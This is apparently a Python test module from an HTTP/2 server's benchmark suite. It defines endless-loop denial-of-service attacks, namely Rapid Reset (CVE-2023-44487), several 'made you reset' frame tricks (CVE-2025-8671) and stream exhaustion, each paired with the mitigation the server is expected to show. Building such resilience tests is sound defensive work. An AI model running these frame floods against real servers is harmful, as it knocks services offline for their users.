"""Streams opened to be thrown away: by the peer (CVE-2023-44487), or by the server for its fault (CVE-2025-8671)."""

from __future__ import annotations

import struct
from collections.abc import Callable
from typing import TYPE_CHECKING

from bench.attacks.attack import SCAN, Attack, call, open_call
from tests.support import wire

if TYPE_CHECKING:
    from bench.attacks.peer import RawPeer

_BATCH = 50
_BOUND = "1000 resets without an answer at once, 50 a second; then ENHANCE_YOUR_CALM"
_WITH_LENGTH = wire.encode(call(SCAN, ("content-length", "9")))


def _again_and_again(make: Callable[[int], bytes]) -> Callable[[RawPeer], None]:
    def run(peer: RawPeer) -> None:
        while True:
            peer.send(b"".join(map(make, peer.streams(_BATCH))))

    return run


def _reset(name: str, make: Callable[[int], bytes]) -> Attack:
    return Attack(name=name, run=_again_and_again(make), bound=_BOUND)


def too_many_streams(peer: RawPeer) -> None:
    """Open one stream after another, and end none."""
    while True:
        peer.send(b"".join(map(open_call, peer.streams(_BATCH))))


ATTACKS = (
    _reset("rapid reset", lambda sid: open_call(sid) + wire.reset(sid)),
    _reset(
        "made you reset: window overflow", lambda sid: open_call(sid) + wire.window_update(sid, 2**31 - 1)
    ),
    _reset("made you reset: window update of 0", lambda sid: open_call(sid) + wire.window_update(sid, 0)),
    _reset("made you reset: DATA after the end", lambda sid: open_call(sid, end=True) + wire.data(sid, b"x")),
    _reset(
        "made you reset: HEADERS after the end",
        lambda sid: open_call(sid, end=True) + open_call(sid, end=True),
    ),
    _reset(
        "made you reset: PRIORITY of 4 octets",
        lambda sid: open_call(sid) + wire.frame(wire.PRIORITY, sid, bytes(4)),
    ),
    _reset(
        "made you reset: PRIORITY on itself",
        lambda sid: open_call(sid) + wire.frame(wire.PRIORITY, sid, struct.pack(">LB", sid, 0)),
    ),
    _reset(
        "made you reset: content-length",
        lambda sid: open_call(sid, _WITH_LENGTH) + wire.data(sid, end=True),
    ),
    Attack(
        name="more streams than allowed",
        run=too_many_streams,
        bound="REFUSED_STREAM above streams_max; refusals spend the budget of resets",
    ),
)
